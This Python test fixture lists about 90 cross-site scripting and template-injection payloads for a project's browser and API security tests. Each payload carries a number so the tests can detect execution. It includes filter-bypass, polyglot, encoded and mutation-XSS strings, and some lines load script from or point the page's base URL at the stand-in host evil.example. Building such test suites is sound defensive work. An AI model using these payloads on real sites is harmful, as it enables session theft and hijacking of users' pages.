"""XSS payloads shared by the attack tests (tests/attack/test_xss_rendered.py renders them in a browser)
and the API's JSON checks (tests/api/test_xss.py uses the first 33, CLASSIC).

Every payload of MARKED carries its own number N: an element it would inject has `id="xss-N"` (or the
class `xss`), and script it would run calls `alert(N)`. In the browser "nothing executable" is then
checkable, not guessed: no `dialog` event fired, and `[id^="xss-"], .xss` matches nothing (plus a
generic look for any inline event handler, javascript: link, frame, base or refresh the page did not
have by itself). Template-injection payloads put `{{7*7}}`-style expressions before the word `tplxss`:
"49tplxss" anywhere in a page means a template engine evaluated user input.
"""

from __future__ import annotations

CLASSIC = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<svg onload=alert(1)>",
    "<SVG/ONLOAD=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

# {n} is replaced by the payload's number (its index in PAYLOADS).
_MARKED = [
    # breaking out of the element or attribute the text lands in
    '"><img id="xss-{n}" src=x onerror=alert({n})>',
    "'><img id='xss-{n}' src=x onerror=alert({n})>",
    '" autofocus onfocus="alert({n})" x="',
    "' autofocus onfocus='alert({n})' x='",
    "` onmouseover=alert({n}) x=`",
    '</textarea><img id="xss-{n}" src=x onerror=alert({n})>',
    '</title><img id="xss-{n}" src=x onerror=alert({n})>',
    '</script><script id="xss-{n}">alert({n})</script>',
    '</style><svg id="xss-{n}" onload=alert({n})>',
    '--><img id="xss-{n}" src=x onerror=alert({n})><!--',
    ']]><img id="xss-{n}" src=x onerror=alert({n})>',
    '</option></select><img id="xss-{n}" src=x onerror=alert({n})>',
    '</noscript><img id="xss-{n}" src=x onerror=alert({n})>',
    '<noscript><p title="</noscript><img id=xss-{n} src=x onerror=alert({n})>">',
    # polyglots
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert({n}) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert({n})//>\\x3e",
    '\'"--></style></script><svg id="xss-{n}" onload=alert({n})>',
    # template injection (Django, Jinja, Angular, Vue, ERB, ${})
    "{{{{7*7}}}}tplxss {{% debug %}} {{{{ request }}}}",
    "{{% include 'admin/base.html' %}}{{{{7*7}}}}tplxss",
    "${{7*7}}tplxss #{{7*7}}tplxss <%= 7*7 %>tplxss",
    '{{{{constructor.constructor("alert({n})")()}}}}',
    # elements that change what the page does without script
    '<base id="xss-{n}" href="https://evil.example/">',
    '<meta id="xss-{n}" http-equiv="refresh" content="0;url=javascript:alert({n})">',
    '<form id="xss-{n}" action="javascript:alert({n})"><button id="xss-b{n}">Go</button></form>',
    '<button id="xss-{n}" formaction="javascript:alert({n})">Go</button>',
    '<img id="xss-{n}" srcset="x 1x, y 2x" onerror="alert({n})">',
    '<img id="xss-{n}" src="x" srcset="javascript:alert({n}) 1x">',
    '<link id="xss-{n}" rel="stylesheet" href="javascript:alert({n})">',
    '<a id="xss-{n}" href="javascript&colon;alert({n})">x</a>',
    '<a id="xss-{n}" href="java\tscript:alert({n})">x</a>',
    '<a id="xss-{n}" href="&#x6A;avascript:alert({n})">x</a>',
    '<a class="xss" href="vbscript:msgbox({n})">x</a>',
    '<a id="xss-{n}" href="https://example.org" onclick="alert({n})">plain link with a handler</a>',
    "[click me](javascript:alert({n})) ![x](javascript:alert({n}))",
    '<div id="xss-{n}" style="width:expression(alert({n}))">css</div>',
    '<div id="xss-{n}" style="background:url(&quot;javascript:alert({n})&quot;)">css</div>',
    '<template id="xss-{n}"><img src=x onerror=alert({n})></template>',
    '<video id="xss-{n}"><source onerror="alert({n})"></video>',
    '<audio id="xss-{n}" src=x onerror=alert({n})>',
    '<marquee id="xss-{n}" onstart=alert({n})>',
    '<select id="xss-{n}" autofocus onfocus=alert({n})>',
    '<textarea id="xss-{n}" autofocus onfocus=alert({n})>',
    '<keygen id="xss-{n}" autofocus onfocus=alert({n})>',
    '<isindex id="xss-{n}" type=image src=1 onerror=alert({n})>',
    '<object id="xss-{n}" data="data:text/html,<script>alert({n})</script>"></object>',
    '<iframe id="xss-{n}" src="data:text/html,<script>alert({n})</script>"></iframe>',
    '<svg id="xss-{n}"><a xlink:href="javascript:alert({n})"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate id="xss-{n}" onbegin=alert({n}) attributeName=x dur=1s>',
    '<math id="xss-{n}"><maction actiontype="statusline" xlink:href="javascript:alert({n})">x</maction></math>',
    # encoded and unicode variants
    "\\u003cimg id=xss-{n} src=x onerror=alert({n})\\u003e",
    "\\x3cimg id=xss-{n} src=x onerror=alert({n})\\x3e",
    "&#60;img id=xss-{n} src=x onerror=alert({n})&#62;",
    "\uff1cimg id=xss-{n} src=x onerror=alert({n})\uff1e",
    '<img id="xss-{n}" src=x one\u200brror=alert({n})>',
    '<IMG id="xss-{n}" SRC=x oNeRrOr=alert`{n}`>',
    '<img id="xss-{n}" src=x onerror=&#97;&#108;&#101;&#114;&#116;({n})>',
    # mutation XSS
    '<svg></p><style><a id="</style><img id=xss-{n} src=1 onerror=alert({n})>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img id=xss-{n} src=x onerror=alert({n})>">',
    '<form><math><mtext></form><form><mglyph><style></math><img id="xss-{n}" src=x onerror=alert({n})>',
    '<p id="xss-{n}" contenteditable autofocus onfocus=alert({n})>x',
]

PAYLOADS: list[str] = CLASSIC + [p.format(n=len(CLASSIC) + i) for i, p in enumerate(_MARKED)]
assert len(PAYLOADS) >= 60 and len(set(PAYLOADS)) == len(PAYLOADS)

TEMPLATE_EVALUATED = "49tplxss"
